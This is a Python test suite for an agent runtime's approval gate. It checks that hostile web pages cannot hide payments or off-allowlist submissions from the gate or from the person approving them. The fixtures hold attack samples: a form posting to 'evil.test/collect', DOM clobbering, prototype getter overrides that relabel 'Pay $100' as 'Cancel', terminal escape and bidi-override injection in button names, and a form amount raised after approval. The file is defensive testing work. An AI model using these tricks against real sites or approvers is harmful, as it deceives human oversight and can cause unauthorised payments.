"""Facts the page cannot forge: DOM clobbering, overridden getters and escape sequences in names
do not change what the gate sees or what a person reads; an approval is bound to the form values
that will really be sent."""

from __future__ import annotations

import asyncio

from rich.console import Console

from runtime import Runtime
from runtime.auth import LOCAL_ACTOR
from runtime.cli.approvals import for_terminal
from runtime.run.gate import sanitize_summary
from tests.support.approvals import next_request, requests_of
from tests.support.hostile import HostileSite, assert_asked_not_paid, run_steps
from tests.support.wait import until


async def test_a_clobbered_form_action_is_still_seen_posting_off_the_allowlist(
    hrt: Runtime, site: HostileSite
) -> None:
    # `form.action` is the <input name=action> here, in every world, and the page's own
    # prototype says the form posts home; a "Search" button of a GET form on the allowlist
    # would be placed as safe.
    url = site.page(
        "/search",
        "<form method=get action=http://evil.test/collect><input name=action value=/search>"
        "<input name=q value=invoices><button>Search</button></form><script>"
        "Object.defineProperty(HTMLFormElement.prototype, 'action', "
        "{get: () => location.origin + '/search'});</script>",
    )
    result = await run_steps(
        hrt, site, [{"goto": url}, {"click": {"role": "button", "name": "Search"}}]
    )
    [asked, *_] = await assert_asked_not_paid(hrt, site, result, "Search")
    assert "submits a form to a host outside the allowlist" in asked.reasons


async def test_a_clobbered_form_method_does_not_hide_a_post(
    hrt: Runtime, site: HostileSite
) -> None:
    url = site.page(
        "/search",
        "<form method=post action=/pay><input name=method value=get>"
        "<input name=amount value=100><button>Search</button></form>",
    )
    result = await run_steps(
        hrt, site, [{"goto": url}, {"click": {"role": "button", "name": "Search"}}]
    )
    [asked, *_] = await assert_asked_not_paid(hrt, site, result, "Search")
    # Seen as a POST: a search button of a GET form would have been placed as safe.
    assert asked.reasons == ["a submission no rule places as safe (unknown means ask)"]


OVERRIDES = """<script>
const fake = (real) => function (...args) {
  const out = real.apply(this, args);
  return typeof out === 'string' ? out.replace(/Pay \\$100/g, 'Cancel') : out;
};
const getters = [[Node.prototype, 'textContent'], [HTMLElement.prototype, 'innerText']];
for (const [proto, prop] of getters) {
  const d = Object.getOwnPropertyDescriptor(proto, prop);
  Object.defineProperty(proto, prop, {get: fake(d.get), set: d.set, configurable: true});
}
Element.prototype.getAttribute = fake(Element.prototype.getAttribute);
Element.prototype.closest = () => null;
Object.defineProperty(HTMLButtonElement.prototype, 'form', {get: () => null});
</script>"""


async def test_overridden_getters_do_not_turn_pay_into_cancel(
    hrt: Runtime, site: HostileSite
) -> None:
    url = site.page(
        "/checkout",
        "<form method=post action=/pay><button aria-label='Pay $100'>Pay $100</button></form>"
        + OVERRIDES,
    )
    result = await run_steps(
        hrt, site, [{"goto": url}, {"click": {"role": "button", "name": "Pay $100"}}]
    )
    [asked, *_] = await assert_asked_not_paid(hrt, site, result, "Pay $100")
    assert "looks like a payment" in asked.reasons


async def test_escape_sequences_and_markup_in_a_name_are_sanitized(
    hrt: Runtime, site: HostileSite
) -> None:
    url = site.page(
        "/checkout",
        "<form method=post action=/pay><button id=b>Pay</button></form><script>"
        "document.getElementById('b').textContent = "
        "'Pay \\u001b[2J\\u001b]0;owned\\u0007[bold red]now[/bold red] \\u202e$100';</script>",
    )
    result = await run_steps(
        hrt, site, [{"goto": url}, {"click": {"role": "button", "name": "Pay"}}]
    )
    [asked, *_] = await assert_asked_not_paid(hrt, site, result)
    summary = asked.summary
    assert "\x1b" not in summary and "\x07" not in summary and "\u202e" not in summary
    assert summary.startswith("Click 'Pay [bold red]now[/bold red] $100'"), summary
    # Where rich prints it, markup is shown, not obeyed.
    console = Console(record=True, width=200, color_system=None)
    console.print(for_terminal(summary))
    assert "[bold red]now[/bold red]" in console.export_text()


def test_sanitize_summary_for_terminals_and_html() -> None:
    raw = "Pay \x1b[31m<b>$100</b>\x1b[0m\r\n\x00 & \u200bmore \x9b2J"
    assert sanitize_summary(raw) == "Pay <b>$100</b> & more"
    assert sanitize_summary(raw, for_html=True) == "Pay &lt;b&gt;$100&lt;/b&gt; &amp; more"
    assert sanitize_summary("Pay '\"x\"'", for_html=True) == "Pay &#x27;&quot;x&quot;&#x27;"


async def test_a_form_value_changed_after_asking_is_asked_again(
    rt: Runtime, site: HostileSite
) -> None:
    # The page raises the amount once told to (after the request is made, before it is decided).
    site.page("/state", "wait")
    url = site.page(
        "/checkout",
        "<form method=post action=/pay><input type=hidden name=amount value=100>"
        "<button>Pay now</button></form><script>"
        "const poll = setInterval(async () => {"
        "  if ((await (await fetch('/state')).text()) !== 'go') return;"
        "  clearInterval(poll);"
        "  document.querySelector('[name=amount]').value = '10000';"
        "  fetch('/changed');"
        "}, 50);</script>",
    )

    async def person() -> list[str]:
        first = await next_request(rt)
        site.page("/state", "go")
        await until(lambda: site.requests("GET", "/changed"), 30, "the page to change the amount")
        await rt.services.approvals.decide(LOCAL_ACTOR, first.id, True, "100 is fine")
        second = await next_request(rt, besides=first)
        await rt.services.approvals.decide(LOCAL_ACTOR, second.id, False, "not 10000")
        return [first.id, second.id]

    async with asyncio.TaskGroup() as tg:
        decided = tg.create_task(person())
        result = await run_steps(
            rt, site, [{"goto": url}, {"click": {"role": "button", "name": "Pay now"}}]
        )
    first_id, second_id = decided.result()
    assert result.status == "denied", result.error
    assert site.posts("/pay") == []
    by_id = {r.id: r for r in await requests_of(rt, result)}
    assert by_id[first_id].status == "superseded"
    assert by_id[second_id].status == "denied"
